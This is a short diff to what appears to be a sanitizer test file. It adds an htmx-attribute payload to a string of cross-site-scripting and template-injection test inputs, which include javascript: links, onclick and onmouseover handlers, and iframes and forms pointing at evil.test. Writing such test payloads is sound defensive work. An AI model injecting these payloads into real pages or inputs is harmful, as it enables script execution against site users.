@@ -30,6 +30,7 @@ ATTACK = (
     "<iframe src=//evil.test></iframe><form action=//evil.test><input><button></form><base href=x>"
     '<style>p{background:url(//evil.test)}</style><p style="position:fixed" onclick=alert(1)>'
     '<a href="javascript:alert(1)">x</a><math><template><object><embed><meta><link></a>'
+    '<p data-hx-get="//evil.test" hx-post="/act" hx-on:click="alert(1)" hx-trigger="load">x</p>'
     "{{7*7}}${7*7}<%= 7*7 %>'--"
 )
 LINKED = 'https://a.test/?"onmouseover=alert(1)//:rose: javascript:alert(1)'
